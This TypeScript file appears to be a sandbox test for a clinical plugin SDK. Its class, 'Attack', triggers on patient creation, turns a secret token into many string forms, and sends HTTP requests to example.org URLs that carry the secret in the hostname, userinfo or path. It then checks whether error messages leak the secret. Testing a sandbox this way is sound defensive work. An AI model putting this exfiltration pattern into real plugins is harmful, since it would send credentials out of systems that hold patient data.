// Makes an address, whose host a refusal would name, of a secret; in every way to make text of it.

import { BaseProtocol, EventType, secretText } from 'chartwire/sdk';

export class Attack extends BaseProtocol {
  static override readonly RESPONDS_TO = [EventType.PATIENT_CREATED];

  async compute() {
    const secret = this.variables.TOKEN as never as object;
    const texts = [
      String(secret),
      `${secret}`.toLowerCase(),
      `${secret}`.slice(1, -1).replace(' ', '-'),
      JSON.stringify(secret),
      Reflect.ownKeys(secret).map((key) => JSON.stringify(secret[key as never])),
      Object.values(secret).join(),
      `${secretText`${secret as never}`}`,
      encodeURIComponent(`${secret}`),
    ];
    const seen: string[] = [];
    for (const text of texts) {
      for (const url of [
        `https://${text}.example.org/`,
        `https://example.org@${text}/`,
        `https://example.org/${text}`,
      ]) {
        seen.push(
          await this.http.get(url).then(
            () => 'answered',
            (error: Error) => error.message,
          ),
        );
      }
    }
    seen.push(
      await this.http.get(secret as never).then(
        () => 'answered',
        (error: Error) => error.message,
      ),
    );
    for (const message of seen) if (/hunter|reached/i.test(message)) this.log.error(message);
    return [];
  }
}
